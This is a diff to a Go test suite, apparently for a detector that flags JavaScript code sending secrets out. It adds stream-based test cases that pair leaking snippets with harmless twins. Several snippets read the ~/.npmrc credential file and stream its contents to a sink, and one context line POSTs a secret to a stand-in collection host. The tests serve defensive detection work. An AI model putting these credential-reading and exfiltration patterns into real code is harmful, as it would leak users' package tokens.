@@ -34,7 +34,7 @@ func sent(t *testing.T, code string) bool {
 
 // TestCarried: what is private is found where it is sent, by every way of the language and of Node; and the twin sends nothing.
 func TestCarried(t *testing.T) {
-	cases := slices.Concat(carriedByLanguage, carriedAsText)
+	cases := slices.Concat(carriedByLanguage, carriedAsText, carriedByStreams)
 	for _, c := range cases {
 		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
 			t.Parallel()
@@ -174,5 +174,98 @@ var carriedAsText = []carriedCase{
 		"a request that is made before",
 		`fetch(new Request("https://collect.mole.invalid/", { method: "POST", body: secret() }));`,
 		`new Request("https://collect.mole.invalid/", { method: "POST", body: secret() }); fetch("https://collect.mole.invalid/");`,
+	},
+}
+
+// carriedByStreams are streams of Node and of the web.
+var carriedByStreams = []carriedCase{
+	{
+		"a transform",
+		`const { Transform } = require("stream"); const t = new Transform({ transform(c, e, cb) { out(c); cb(); } });
+			t.write(secret());`,
+		`const { Transform } = require("stream"); const t = new Transform({ transform(c, e, cb) { out(e); cb(); } });
+			t.write(secret());`,
+	},
+	{
+		"what a transform gives",
+		`const { Transform } = require("stream");
+			const t = new Transform({ transform(c, e, cb) { cb(null, c.toString("hex")); } }); t.on("data", (d) => out(d)); t.end(secret());`,
+		`const { Transform } = require("stream"); let n = 0; const t = new Transform({ transform(c, e, cb) { n += c.length;
+			cb(null, String(n)); } }); t.on("data", (d) => out(d)); t.end(secret());`,
+	},
+	{
+		"a transform that pushes",
+		`const s = require("stream"); class T extends s.Transform { _transform(c, e, cb) { this.push(c); cb();
+			} } const t = new T(); t.on("data", (d) => out(d)); t.end(secret());`,
+		`const s = require("stream"); class T extends s.Transform { _transform(c, e, cb) { this.push(c.length); cb();
+			} } const t = new T(); t.on("data", (d) => out(d)); t.end(secret());`,
+	},
+	{
+		"a writable",
+		`const { Writable } = require("stream"); const w = new Writable({ write(c, e, cb) { out(c); cb(); } }); w.end(secret());`,
+		`const { Writable } = require("stream"); let n = 0; const w = new Writable({ write(c, e, cb) { n += c.length; out(n);
+			cb(); } }); w.end(secret());`,
+	},
+	{
+		"a writable that is piped to",
+		`const { Writable } = require("stream"); class W extends Writable { _write(c, e, cb) { out(c); cb();
+			} } fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(new W());`,
+		`const { Writable } = require("stream"); class W extends Writable { _write(c, e, cb) { out("x"); cb();
+			} } fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(new W());`,
+	},
+	{
+		"a pipeline",
+		`const { Writable, pipeline } = require("stream");
+			pipeline(fs.createReadStream(path.join(os.homedir(), ".npmrc")), new Writable({ write(c, e, cb) { out(c); cb(); } }), () => {});`,
+		``,
+	},
+	{
+		"a pass through",
+		`const { PassThrough } = require("stream"); const p = new PassThrough(); p.on("data", (c) => out(c)); p.end(secret());`,
+		`const { PassThrough } = require("stream"); const p = new PassThrough(), q = new PassThrough();
+			p.on("data", (c) => out(c)); q.end(secret());`,
+	},
+	{
+		"a readable that reads",
+		`const { Readable } = require("stream"); const r = new Readable({ read() { this.push(secret()); } });
+			r.on("data", (c) => out(c));`,
+		`const { Readable } = require("stream"); const r = new Readable({ read() { secret(); this.push("x"); } });
+			r.on("data", (c) => out(c));`,
+	},
+	{
+		"a stream of the web",
+		`const r = new ReadableStream({ start(c) { c.enqueue(secret()); c.close(); } });
+			(async () => { for await (const v of r) out(v); })();`,
+		`const r = new ReadableStream({ start(c) { secret(); c.enqueue("x"); c.close(); } });
+			(async () => { for await (const v of r) out(v); })();`,
+	},
+	{
+		"a stream of the web as a body",
+		`out(new ReadableStream({ pull(c) { c.enqueue(secret()); c.close(); } }));`,
+		`out(new ReadableStream({ pull(c) { c.error(secret()); } }));`,
+	},
+	{
+		"a transform of the web",
+		`const t = new TransformStream({ transform(c, k) { k.enqueue(c); } }); const w = t.writable.getWriter();
+			w.write(secret()); out(t.readable);`,
+		`const t = new TransformStream({ transform(c, k) { k.enqueue(c.length); } }); const w = t.writable.getWriter();
+			w.write(secret()); out(t.readable);`,
+	},
+	{
+		"a writable of the web",
+		`const w = new WritableStream({ write(c) { out(c); } }); w.getWriter().write(secret());`,
+		`const w = new WritableStream({ write(c) { out(c.length); } }); w.getWriter().write(secret());`,
+	},
+	{
+		"the lines of a file",
+		`(async () => { const h = await fs.promises.open(path.join(os.homedir(), ".npmrc"));
+			for await (const l of h.readLines()) out(l); })();`,
+		`(async () => { const h = await fs.promises.open(path.join(os.homedir(), ".npmrc")); let n = 0;
+			for await (const l of h.readLines()) n++; out(n); })();`,
+	},
+	{
+		"a file as a blob",
+		`(async () => { out(await fs.openAsBlob(path.join(os.homedir(), ".npmrc"))); })();`,
+		`(async () => { out((await fs.openAsBlob(path.join(os.homedir(), ".npmrc"))).size); })();`,
 	},
 }
